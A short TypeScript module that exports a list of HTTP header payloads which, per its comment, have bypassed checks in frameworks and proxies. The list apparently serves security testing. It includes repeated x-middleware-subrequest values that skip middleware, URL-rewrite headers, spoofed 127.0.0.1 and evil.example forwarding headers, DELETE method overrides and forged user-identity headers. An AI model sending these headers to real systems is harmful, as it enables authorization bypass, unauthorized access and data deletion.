const NESTED = (name: string) => Array.from({ length: 6 }, () => name).join(':');

/** Headers that have bypassed checks in frameworks and proxies. */
export const TRICKS: readonly Record<string, string>[] = [
  { 'x-middleware-subrequest': NESTED('middleware') },
  { 'x-middleware-subrequest': NESTED('src/middleware') },
  { 'x-middleware-subrequest': NESTED('proxy') },
  { 'x-original-url': '/api/health/live' },
  { 'x-rewrite-url': '/api/health/live' },
  { 'x-forwarded-for': '127.0.0.1' },
  { 'x-forwarded-host': 'evil.example' },
  { 'x-forwarded-proto': 'https' },
  { forwarded: 'for=127.0.0.1;host=evil.example;proto=https' },
  { 'x-real-ip': '127.0.0.1' },
  { 'x-http-method-override': 'GET' },
  { 'x-http-method-override': 'DELETE' },
  { 'x-method-override': 'DELETE', 'x-http-method': 'DELETE' },
  { 'x-matched-path': '/api/health/live', 'x-invoke-path': '/api/health/live' },
  { 'x-user-id': 'own-creator', 'x-forwarded-user': 'own-creator', 'x-authenticated-user': 'own-creator' },
];
